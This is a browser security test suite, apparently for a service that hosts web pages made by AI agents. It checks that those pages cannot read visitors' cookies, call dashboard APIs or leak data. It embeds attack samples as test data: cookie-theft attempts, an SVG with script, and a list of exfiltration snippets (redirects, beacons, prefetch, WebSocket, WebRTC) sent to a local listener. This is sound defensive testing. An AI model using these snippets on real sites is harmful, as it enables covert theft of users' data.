"""Pages of a group in a browser that is signed in. They work, and have nobody's rights: neither in a page, nor in a
picture, nor under a host name of their own."""

import asyncio
import json
import socket
from collections.abc import AsyncIterator, Iterator
from contextlib import suppress
from typing import Any

import pytest
from playwright.async_api import Browser, BrowserContext, Frame, Page, expect
from playwright.async_api import Error as PlaywrightError
from tests.browsers import needs_chromium, start_browser

from gatepost_testing.daemon import DaemonProcess
from gatepost_testing.provider import ScriptBuilder
from gatepost_testing.waiting import PATIENCE_S

from .foreign_page import FOLLOW, PRESS, READ, ForeignServer, serve_foreign_page

HOST = "docs.example.net"
pytestmark = needs_chromium

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63f8cfc0f01f00050001ff"
    "89993d1d0000000049454e44ae426082"
)
SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>
document.documentElement.setAttribute("data-ran", String(origin));
</script></svg>"""
INDEX = """<!doctype html><title>Page</title><link rel="stylesheet" href="style.css"><img id="pixel" src="pixel.png">
<a id="next" href="docs/">next</a><iframe name="hidden"></iframe><p id="said"></p>
<script type="module" src="app.js"></script>"""
APP = """import { said } from "./said.js";
document.getElementById("said").textContent = said + (await (await fetch("data.json")).json()).text;"""
STYLE = "p { color: rgb(1, 2, 3) }"
WRITES = ("/dashboard/do/group.add", "/v1/ops/group.add", "/api/messages", "/logout", "/login", "/api/clicks")
READS = ("/", "/api/start", "/dashboard/ledger?format=json", "/metrics", "/openapi.json", "/static/chat.js")
# What has no origin has none of these.
CHECK_POWERLESS = """async () => {
  const tried = {};
  const attempt = async (name, work) => {
    try { tried[name] = String(await work()); } catch { tried[name] = "refused"; }
  };
  await attempt("cookie", () => document.cookie);
  await attempt("set", () => { document.cookie = "gatepost=stolen; path=/"; return "done"; });
  await attempt("storage", () => localStorage.length);
  await attempt("database", () => indexedDB.open("x").onerror);
  await attempt("worker", () => navigator.serviceWorker.register("sw.js"));
  await attempt("cookies", () => cookieStore.getAll());
  return { origin, tried };
}"""
FRAME = """async (paths) => {
  for (const path of paths) {
    const frame = Object.assign(document.createElement("iframe"), { src: path });
    const loaded = new Promise((done) => { frame.onload = frame.onerror = done; });
    document.body.append(frame);
    await loaded;
  }
}"""
LOAD = """async (address) => await new Promise((done) => {
  const image = new Image();
  image.onload = () => done("shown");
  image.onerror = () => done("refused");
  image.src = address;
})"""


@pytest.fixture(scope="module")
async def browser() -> AsyncIterator[Browser]:
    async with start_browser(f"--host-resolver-rules=MAP {HOST} 127.0.0.1") as started:
        yield started


@pytest.fixture(scope="module")
def daemon(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DaemonProcess]:
    home = tmp_path_factory.mktemp("sites") / "home"
    with DaemonProcess(home, sandbox_kind="process", sessions_provider="scripted") as running:
        for kind in ("public_html", "private_html"):
            place = home / "groups" / "home" / kind
            (place / "docs").mkdir(parents=True)
            files = {"index.html": INDEX, "app.js": APP, "said.js": 'export const said = "it ";', "style.css": STYLE}
            files |= {"docs/index.html": "<title>Docs</title>", "evil.svg": SVG, "sw.js": "0"}
            files |= {"data.json": json.dumps({"text": "works"}), "planted.js": "window.planted = true"}
            for name, text in files.items():
                (place / name).write_text(text)
            (place / "pixel.png").write_bytes(PIXEL)
        script = ScriptBuilder().turn("make").write_file("public_html/made.txt", "by an agent").say("made")
        script.turn("close").call("set_web_route", path="/pub/home/made.txt", access="deny").say("{result}")
        script.write(home / "groups" / "home").chmod(0o644)
        running.json("site", "set", "home", "/pub/home", "public")
        running.json("site", "bind", HOST, "home")
        yield running


@pytest.fixture(scope="module")
async def signed_in(browser: Browser, daemon: DaemonProcess) -> Any:
    """The cookies of a browser that was let in."""
    async with await browser.new_context() as made:
        page = await made.new_page()
        await page.goto(daemon.address)
        await expect(page.locator("#text")).to_be_visible()
        return await made.storage_state()


@pytest.fixture
async def context(browser: Browser, signed_in: Any) -> AsyncIterator[BrowserContext]:
    made = await browser.new_context(storage_state=signed_in, locale="en-GB")
    made.set_default_timeout(PATIENCE_S * 1000)
    yield made
    await made.close()


@pytest.fixture(scope="module")
def foreign() -> Iterator[ForeignServer]:
    with serve_foreign_page() as server:
        yield server


def get_base(daemon: DaemonProcess) -> str:
    return daemon.banner[0].split()[-1].rstrip("/")


async def enter(context: BrowserContext, daemon: DaemonProcess) -> Page:
    page = await context.new_page()
    await page.goto(get_base(daemon))
    await expect(page.locator("#text")).to_be_visible()
    return page


async def find_frame(page: Page) -> Frame:
    """The agent's page in ours."""
    handle = await page.wait_for_selector("iframe")
    found = await handle.content_frame()
    assert found is not None
    return found


async def check_it_works(page: Page | Frame) -> None:
    """Styles, pictures, modules and data beside a page are loaded by relative addresses."""
    await expect(page.locator("#said")).to_have_text("it works")
    await expect(page.locator("#said")).to_have_css("color", "rgb(1, 2, 3)")
    assert await page.evaluate("document.getElementById('pixel').naturalWidth") == 1


@pytest.mark.slow
async def test_public_and_private_pages_work_in_a_browser(daemon: DaemonProcess, context: BrowserContext) -> None:
    page = await enter(context, daemon)
    await page.goto(f"{get_base(daemon)}/dashboard/sites")
    await page.get_by_role("link", name="/priv/home/", exact=True).click()
    inner = await find_frame(page)
    await check_it_works(inner)
    assert page.url.endswith("/priv/home/") and "/priv/~" in inner.url
    await inner.locator("#next").click()
    await inner.wait_for_url("**/docs/")
    assert await inner.title() == "Docs"
    await page.goto(f"{get_base(daemon)}/dashboard/sites")
    await page.get_by_role("link", name="/pub/home/", exact=True).click()
    await check_it_works(page)
    await context.clear_cookies()
    await page.goto(f"{get_base(daemon)}/pub/home/")
    await check_it_works(page)
    answer = await page.goto(f"{get_base(daemon)}/priv/home/")
    assert answer is not None and answer.status == 401


async def open_site(context: BrowserContext, daemon: DaemonProcess, where: str) -> Page | Frame:
    page = await context.new_page()
    if where == "host":
        await page.goto(f"http://{HOST}:{get_base(daemon).rpartition(':')[2]}/")
    elif where == "private":
        await page.goto(f"{get_base(daemon)}/dashboard/sites")
        await page.get_by_role("link", name="/priv/home/", exact=True).click()
        inner = await find_frame(page)
        await expect(inner.locator("#said")).to_have_text("it works")
        return inner
    else:
        await page.goto(f"{get_base(daemon)}/pub/home/")
    await expect(page.locator("#said")).to_have_text("it works")
    return page


# A public page has the origin and the policy of a private one.
@pytest.mark.slow
@pytest.mark.parametrize("where", [pytest.param("public", marks=pytest.mark.slow), "private", "host"])
async def test_a_script_of_a_group_has_no_rights_of_the_visitor(
    daemon: DaemonProcess, context: BrowserContext, where: str
) -> None:
    chat = await enter(context, daemon)
    cookies, before = await context.cookies(), len(daemon.json("ledger", "list"))
    page = await open_site(context, daemon, where)
    base = get_base(daemon)
    found = await page.evaluate(CHECK_POWERLESS)
    assert found["origin"] == "null" and set(found["tried"].values()) == {"refused"}, found
    for path in READS:
        assert await page.evaluate(READ, [base, path]) == "refused", path
    for path in ("/api/events", "/dashboard/live"):
        assert await page.evaluate(FOLLOW, [base, path]) == "refused"
    await page.evaluate(PRESS, [base, list(WRITES)])
    await page.evaluate(FRAME, [f"{base}/", f"{base}/dashboard/ledger", f"{base}/pub/home/docs/"])
    for frame in page.child_frames if isinstance(page, Frame) else page.frames[1:]:
        assert await frame.locator("#text, main").count() == 0 and not frame.url.startswith(base)
    assert "planted" not in {group["folder"] for group in daemon.json("group", "list")}
    assert len(daemon.json("ledger", "list")) == before and await context.cookies() == cookies
    await chat.reload()
    await expect(chat.locator("#text")).to_be_visible()  # nobody was signed out


# Each would carry something out without a click. `{away}` listens on TCP and, for WebRTC, on UDP.
REMEDIES = {
    "location": "location.href = '{away}/?d'",
    "top": "top.location.href = '{away}/?d'",
    "meta": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url={away}/?d\">')",
    "open": "open('{away}/?d')",
    "link": "Object.assign(document.createElement('a'), {{ href: '{away}/?d' }}).click()",
    "form": "const f = Object.assign(document.createElement('form'), {{ action: '{away}/' }}); document.body.append(f);"
    " f.submit()",
    "image": "new Image().src = '{away}/?d'",
    "fetch": "await fetch('{away}/?d', {{ mode: 'no-cors' }})",
    "beacon": "navigator.sendBeacon('{away}/', 'd')",
    "preconnect": "document.head.insertAdjacentHTML('beforeend', '<link rel=preconnect href=\"{away}\">')",
    "prefetch": "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=\"{away}/?d\">')",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent ="
    " JSON.stringify({{ prefetch: [{{ source: 'list', urls: ['{away}/?d'], eagerness: 'immediate' }}] }});"
    " document.head.append(s)",
    "socket": "new WebSocket('{away}/?d'.replace('http', 'ws'))",
    "webrtc": "const p = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:127.0.0.1:{port}' }}] }});"
    " p.createDataChannel('d'); await p.setLocalDescription(await p.createOffer())",
    "webrtc in a frame": "const i = document.createElement('iframe'); i.srcdoc = `<script>const p = new"
    " RTCPeerConnection({{ iceServers: [{{ urls: 'stun:127.0.0.1:{port}' }}] }}); p.createDataChannel('d');"
    " p.createOffer().then((o) => p.setLocalDescription(o))</` + 'script>'; document.body.append(i)",
}
LEAVE = """async () => {{
  try {{ {way}; }} catch {{ /* refused */ }}
  await new Promise((done) => setTimeout(done, 150));
}}"""


async def test_a_private_page_carries_nothing_out_without_a_click(
    daemon: DaemonProcess, context: BrowserContext
) -> None:
    arrived: list[str] = []
    server = await asyncio.start_server(lambda _, writer: (arrived.append("tcp"), writer.close()), "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(("127.0.0.1", port))
    asyncio.get_running_loop().add_reader(datagrams, lambda: arrived.append(f"udp {len(datagrams.recv(2048))}"))
    for name, way in REMEDIES.items():
        inner = await open_site(context, daemon, "private")
        script = LEAVE.format(way=way.format(away=f"http://localhost:{port}", port=port))
        with suppress(PlaywrightError):  # it was led away, to an empty page
            await inner.evaluate(script)
        assert arrived == [], name
    asyncio.get_running_loop().remove_reader(datagrams)
    datagrams.close()
    server.close()


@pytest.mark.slow
async def test_a_window_that_such_a_page_opens_or_becomes_shows_nothing_of_ours(
    daemon: DaemonProcess, context: BrowserContext
) -> None:
    await enter(context, daemon)
    page = await open_site(context, daemon, "public")
    async with context.expect_page() as opening:
        await page.evaluate("(address) => { window.opened = open(address); }", f"{get_base(daemon)}/dashboard/ledger")
    popup = await opening.value
    await popup.wait_for_load_state()
    assert await popup.locator("main, #text").count() == 0
    assert await page.evaluate("(() => { try { return opened.document.title } catch { return 'refused' } })()") in (
        "refused",
        None,
    )
    await page.evaluate("(address) => { location = address; }", f"{get_base(daemon)}/dashboard/ledger")
    await expect(page.locator("#state")).to_be_attached()  # the sign-in page: it comes without the cookie
    await page.goto(f"{get_base(daemon)}/dashboard/ledger")
    await expect(page.locator("main")).to_be_visible()


@pytest.mark.slow
async def test_a_picture_with_a_script_is_as_powerless(daemon: DaemonProcess, context: BrowserContext) -> None:
    await enter(context, daemon)
    page = await context.new_page()
    await page.goto(f"{get_base(daemon)}/pub/home/evil.svg")
    assert await page.evaluate("document.documentElement.getAttribute('data-ran')") == "null"
    assert await page.evaluate(READ, [get_base(daemon), "/api/start"]) == "refused"


async def test_none_of_our_own_pages_loads_a_script_of_a_group(daemon: DaemonProcess, context: BrowserContext) -> None:
    """Our policy trusts our own address. If markup got into a page of ours, an agent's file would be there for it."""
    page = await enter(context, daemon)
    ran: Any = await page.evaluate(
        """async (address) => await new Promise((done) => {
          const script = Object.assign(document.createElement("script"), { src: address });
          script.onload = () => done("ran");
          script.onerror = () => done("refused");
          document.head.append(script);
        })""",
        f"{get_base(daemon)}/pub/home/planted.js",
    )
    assert ran == "refused" and await page.evaluate("window.planted") is None
    worker = "() => navigator.serviceWorker.register('/pub/home/sw.js').then(() => 'ran', () => 'refused')"
    assert await page.evaluate(worker) == "refused"


# The near one is the harder: browsers send it the same cookies.
@pytest.mark.slow
@pytest.mark.parametrize("place", [pytest.param("origin", marks=pytest.mark.slow), "near_origin"])
async def test_a_page_of_somebody_else_sees_no_private_page(
    daemon: DaemonProcess, context: BrowserContext, foreign: ForeignServer, place: str
) -> None:
    await enter(context, daemon)
    foreign.html = "<!doctype html><title>Free</title>"
    other = await context.new_page()
    await other.goto(getattr(foreign, place))
    base = get_base(daemon)
    assert await other.evaluate(LOAD, f"{base}/pub/home/pixel.png") == "shown"  # it is for everybody
    assert await other.evaluate(LOAD, f"{base}/priv/home/pixel.png") == "refused"
    assert await other.evaluate(READ, [base, "/priv/home/data.json"]) == "refused"
    await other.evaluate(FRAME, [f"{base}/priv/home/", f"{base}/pub/home/"])
    for frame in other.frames[1:]:
        assert await frame.locator("#said").count() == 0 and not frame.url.startswith(base)


@pytest.mark.slow
async def test_a_page_is_opened_to_everybody_and_closed_again_on_the_dashboard(
    daemon: DaemonProcess, context: BrowserContext
) -> None:
    page = await context.new_page()
    await page.goto(f"{get_base(daemon)}/dashboard/sites")
    await page.get_by_role("button", name="Say who sees a page").click()
    form = page.get_by_role("dialog")
    await expect(form.get_by_label("access")).to_have_value("auth")  # nothing becomes public by a hasty click
    await form.locator("[name=folder]").fill("home")
    await form.get_by_label("path").fill("https://evil.example/")
    await form.get_by_label("access").select_option("deny")
    await form.locator("button[type=submit]").click()
    await expect(form.get_by_text("does not begin with a slash")).to_be_visible()
    await form.get_by_label("path").fill("/pub/home/docs")
    await form.locator("button[type=submit]").click()
    await expect(page.get_by_role("link", name="/pub/home/docs", exact=True)).to_be_visible()
    answer = await context.request.get(f"{get_base(daemon)}/pub/home/docs/")
    assert answer.status == 403
    await page.goto(f"{get_base(daemon)}/dashboard/sites")
    row = page.get_by_role("row").filter(has_text="/pub/home/docs")
    await row.get_by_role("button", name="Remove").click()
    await page.get_by_role("dialog").locator("button[type=submit]").click()
    await expect(page.get_by_role("link", name="/pub/home/docs", exact=True)).to_have_count(0)
    assert (await context.request.get(f"{get_base(daemon)}/pub/home/docs/")).status == 200


@pytest.mark.slow
async def test_what_an_agent_writes_and_says_of_its_pages_holds_at_once(
    daemon: DaemonProcess, context: BrowserContext
) -> None:
    address = f"{get_base(daemon)}/pub/home/made.txt"
    assert (await context.request.get(address)).status == 404
    assert "made" in daemon.gatepost("chat", "-m", "make", "--wait").stdout
    assert await (await context.request.get(address)).text() == "by an agent"
    assert "ok" in daemon.gatepost("chat", "-m", "close", "--wait").stdout
    assert (await context.request.get(address)).status == 403
    rows = {each["path"]: each["created_by"] for each in daemon.json("site", "routes")}
    assert rows == {"/pub/home": "operator", "/pub/home/made.txt": "agent:home"}
